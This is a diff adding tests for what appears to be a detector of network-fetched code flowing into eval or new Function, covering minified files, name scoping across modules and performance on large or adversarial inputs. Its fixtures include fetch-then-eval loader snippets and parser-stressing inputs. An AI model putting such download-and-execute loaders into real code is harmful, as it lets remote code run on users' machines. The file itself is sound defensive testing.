@@ -39,6 +39,47 @@ describe('a promise made by hand, and async Python clients', () => {
   });
 });
 
+describe('minified code', () => {
+  it('follows a function whose body is on the line of its definition, or whose return is at column 0', () => {
+    expect(flowAt({ 'a.js': `function a(){return fetch(${U}).then(r=>r.text())}a().then(eval)\n` })).toEqual(['a.js:1']);
+    expect(flowAt({ 'a.js': `var x=1;function a(){return fetch(${U}).then(function(r){return r.text()})};a().then(function(c){eval(c)});\n` })).toEqual(['a.js:1']);
+    expect(flowAt({ 'a.js': `function a(){\nreturn fetch(${U}).then(r=>r.text())\n}\na().then(eval)\n` })).toEqual(['a.js:4']);
+    expect(flowAt({ 'a.js': `!function(){var b=function(){return fetch(${U}).then(function(r){return r.text()})};b().then(function(s){new Function(s)()})}();\n` })).toEqual(['a.js:1']);
+    // The message names the line of the fetch in the file as it is.
+    const found = flows({ 'a.js': `var k=2;\nfunction a(){\nvar r=fetch(${U});\nreturn r.then(x=>x.text())\n}\na().then(eval)\n` });
+    expect(found.map((f) => f.line)).toEqual([6]);
+    expect(found[0]?.message).toContain('(the value from line 3)');
+  });
+
+  it('does not block minified code that fetches data, or evaluates its own', () => {
+    expect(flows({ 'a.js': `function a(){return fetch(${U}).then(r=>r.json())}a().then(d=>console.log(d));var c=eval("("+localCfg+")");\n` })).toEqual([]);
+    expect(flows({ 'a.js': `function a(){\nreturn fetch(${U}).then(r=>r.text())\n}\nfunction b(){\nreturn "1+1"\n}\na().then(console.log);eval(b())\n` })).toEqual([]);
+    // Strings, templates, comments and regular expressions with braces and semicolons lay out as one token.
+    expect(flows({ 'a.js': `var s="};function a(){return fetch(u)}";var t=\`\${"{"};\`;var re=/[{;}]/g;/* } ; { */function b(){return 1};eval(b())\n` })).toEqual([]);
+  });
+
+  it('keeps a name defined in two files apart', () => {
+    // Each file's `a` is its own: the minified loader's in one file, a constant in the other.
+    expect(flowAt({ 'net.js': `function a(){return fetch(${U}).then(r=>r.text())}a().then(console.log)\n`, 'calc.js': `function a(){return "1+1"}console.log(eval(a()))\n` })).toEqual([]);
+    const modules = { 'lib/net.js': `export function load() {\n  return fetch(${U}).then((r) => r.text());\n}\n`, 'lib/disk.js': `import fs from 'fs';\nexport function load() {\n  return fs.readFileSync('./plugin.js', 'utf8');\n}\n` };
+    expect(flowAt({ ...modules, 'main.js': `import { load } from './lib/disk.js';\nimport * as net from './lib/net.js';\nnet.load().then(console.log);\neval(load());\n` })).toEqual([]);
+    expect(flowAt({ ...modules, 'main.js': `import { load } from './lib/net.js';\nload().then(eval);\n` })).toEqual(['main.js:2']);
+  });
+
+  it('stays linear on large minified and hostile files', () => {
+    // A minified file of 5 MB: many functions on one line, a loader at its end.
+    let line = 'var z=0;';
+    for (let i = 0; line.length < 5_000_000; i++) line += `function f${i}(x){return g${i}(x)+{a:[${i}]}.a};f${i}(z);`;
+    line += `function stage(){return fetch(${U}).then(r=>r.text())}stage().then(eval)\n`;
+    // Unclosed strings, templates and comments, and braces a million deep.
+    const hostile = ['`${'.repeat(300_000), "'{".repeat(300_000), '/*{'.repeat(300_000), '{'.repeat(1_000_000) + '\nreturn fetch(u)\n', '}'.repeat(1_000_000) + ';a(){return 1}'];
+    const started = performance.now();
+    expect(flowAt({ 'big.js': line })).toEqual(['big.js:1']);
+    for (const [i, text] of hostile.entries()) expect(flowAt({ [`h${i}.js`]: `function a(){return 1};${text}` })).toEqual([]);
+    expect(performance.now() - started).toBeLessThan(30_000);
+  });
+});
+
 describe('code runners under another name', () => {
   it('follows a value into an alias of eval, exec, a shell, the builtins module and the Function constructor', () => {
     const body = `const body = await (await fetch(${U})).text();\n`;
